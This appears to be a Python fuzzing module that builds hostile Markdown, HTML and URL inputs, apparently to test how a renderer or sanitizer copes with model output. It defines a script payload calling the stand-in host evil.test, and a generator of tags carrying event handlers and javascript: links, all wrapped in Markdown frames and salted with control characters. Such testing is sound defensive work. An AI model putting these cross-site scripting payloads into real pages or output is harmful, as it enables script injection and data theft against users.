"""Hostile model text: Markdown, HTML and URLs that want to run a script, reach the network or take over the
page.

The parts are in `hostile.json`: `tricks`, `fetches`, and `places` for each of `schemes`, and `tags` with
`handlers`.
"""

import json
import random
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path

PARTS: dict[str, list[str]] = json.loads(Path(__file__).with_suffix(".json").read_text())
RUN = "window.pwned=1;fetch('//evil.test/x')"
FAR = "//evil.test/x"


def tricks() -> list[str]:
    """The nastiest ones."""
    return [trick.format(run=RUN) for trick in PARTS["tricks"]]


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from tricks()
    yield from (fetch.format(far=FAR) for fetch in PARTS["fetches"])
    yield from (place.format(url=url, run=RUN) for place, url in product(PARTS["places"], PARTS["schemes"]))
    handlers = PARTS["handlers"]
    for number, tag in enumerate(PARTS["tags"]):
        for step in range(3):
            handler = handlers[(number + step * 5) % len(handlers)]
            yield f'<{tag} {handler}="{RUN}" src=x href="javascript:{RUN}" tabindex=0 autofocus>x</{tag}>'


# what the payloads are put into
FRAMES = (
    "{0}",
    "- {0}\n  1. {1}\n     > {0}",
    "> {0}\n>\n> > {1}",
    "| a | b |\n|---|---|\n| {0} | {1} |",
    "```html\n{0}\n```\n{1}",
    "```\n{0}",
    "`{0}` ``{1}``",
    "**{0}** _{1}_ ~~{0}~~",
    "# {0}\n\n{1}\n===",
    "$${0}$$ \\({1}\\) $x^{{ {0} }}$",
    "<details><summary>{0}</summary>\n\n{1}\n\n</details>",
    '[{0}][r]\n\n[r]: {1} "{0}"',
    "[^n] {1}\n\n[^n]: {0}",
    "<!-- {0} --> {1} <![CDATA[{0}]]>",
    "<p title='{0}'>{1}</p>",
    "- [ ] {0}\n- [x] {1}",
    "{0}{1}",
    "\\{0} \\{1}",
)
# what is done to a text afterwards
ODD = (
    "\0",
    "\u200b",
    "\u202e",
    "\ufeff",
    "\r",
    "\t",
    "\u2028",
    "&#0;",
    "\U000e0001",
    "é",
    "\\",
    "<",
    "&",
    "]]>",
    "--!>",
)


def generated(seed: int, count: int) -> list[str]:
    """So many texts, the same for the same seed: payloads mixed, framed, torn, sown with odd characters."""
    chance = random.Random(seed)
    parts = payloads()
    return [_one(chance, parts) for _ in range(count)]


def _one(chance: random.Random, parts: list[str]) -> str:
    text = chance.choice(parts)
    for _ in range(chance.randint(1, 3)):
        text = chance.choice(FRAMES).format(text, chance.choice(parts))
    for _ in range(chance.randint(0, 3)):
        text = chance.choice(CHANGES)(text, chance)
    return text[:4000] or "x"


def _cut(text: str, chance: random.Random) -> str:
    return text[: chance.randint(1, len(text))]


def _sown(text: str, chance: random.Random) -> str:
    for _ in range(chance.randint(1, 6)):
        at = chance.randint(0, len(text))
        text = text[:at] + chance.choice(ODD) + text[at:]
    return text


def _doubled(text: str, chance: random.Random) -> str:
    at, end = sorted((chance.randint(0, len(text)), chance.randint(0, len(text))))
    return text[:end] + text[at:]


def _shouted(text: str, chance: random.Random) -> str:
    return "".join(one.upper() if chance.random() < 0.3 else one for one in text)


def _escaped(text: str, chance: random.Random) -> str:
    return "".join(f"&#{ord(one)};" if chance.random() < 0.05 else one for one in text)


CHANGES: tuple[Callable[[str, random.Random], str], ...] = (_cut, _sown, _doubled, _shouted, _escaped)
